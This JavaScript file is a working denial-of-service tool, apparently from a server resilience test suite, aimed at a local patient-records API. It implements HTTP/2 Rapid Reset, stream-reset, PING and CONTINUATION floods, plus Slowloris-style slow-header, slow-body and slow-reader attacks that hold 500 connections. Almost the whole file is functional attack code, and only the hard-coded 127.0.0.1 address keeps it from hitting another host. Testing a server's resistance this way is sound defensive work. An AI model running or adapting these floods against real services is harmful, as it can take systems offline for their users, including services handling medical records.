// One attacker, until it is ended: attacker.mjs ATTACK PORT TOKEN PAUSE. It has one connection (slow ones: 500), sends as fast as it can,
// and connects again so many milliseconds after it was cut off.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Frames, H2, frame, get } from '../hostile/kit.mjs';

const [, , attack, port, token, pause] = process.argv;
const u32 = (n) => { const bytes = Buffer.alloc(4); bytes.writeUInt32BE(n); return bytes; };
const own = [['authorization', `Bearer ${token}`]];
const asked = (method = 'GET') => get('/v1/patients/1049', own, method);

/** What one connection sends, the nth time. */
const frames = {
  'rapid reset': (id) => [frame(H2.HEADERS, 5, id, asked()), frame(H2.RST, 0, id, u32(8))],
  'made to reset: window': (id) => [frame(H2.HEADERS, 5, id, asked()), frame(H2.WINDOW, 0, id, u32(0x7fffffff))],
  'made to reset: data': (id) => [frame(H2.HEADERS, 5, id, asked()), frame(H2.DATA, 0, id, Buffer.from('x'))],
  'half a request, reset': (id) => [frame(H2.HEADERS, 4, id, asked('POST')), frame(H2.RST, 0, id, u32(8))],
  'control frames': () => Array(50).fill(frame(H2.PING, 0, 0, Buffer.alloc(8))),
  'pieces of a head': (id) => [id === 1 ? frame(H2.HEADERS, 0, 1, get()) : frame(H2.CONTINUATION, 0, 1, Buffer.alloc(8000, 'a'))],
};
async function flood(more) {
  for (;;) {
    const session = new Frames(Number(port));
    for (let id = 1; id < 20000 && !session.closed && !session.of(H2.GOAWAY).length; id += 40) {
      for (let k = 0; k < 40; k += 2) session.write(...more(id + k));
      await sleep(0);
    }
    session.destroy();
    await sleep(Number(pause));
  }
}

const head = `Host: x\r\nAuthorization: Bearer ${token}\r\n`;
/** Many connections that send a little now and then; one that was cut off is opened again. */
const slow = {
  'slow heads': ['GET /v1/patients/1049 HTTP/1.1\r\nHost: x\r\n', 'X-A: b\r\n'],
  'slow bodies': [`POST /v1/patients HTTP/1.1\r\n${head}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`, ' '],
  'slow readers': [`GET /v1/patients?page_size=50 HTTP/1.1\r\n${head}\r\n`.repeat(200), ''],
};
function hold([first, more]) {
  const open = () => {
    const socket = connect(Number(port), '127.0.0.1', () => socket.write(first));
    if (!more) socket.pause();
    const timer = more && setInterval(() => socket.write(more), 200);
    socket.on('error', () => {});
    socket.on('close', () => { clearInterval(timer); setTimeout(open, Number(pause)); });
  };
  for (let n = 0; n < 500; n++) open();
  setInterval(() => {}, 1000); // sockets that are not read keep nothing alive
}

if (frames[attack]) await flood(frames[attack]);
else hold(slow[attack]);
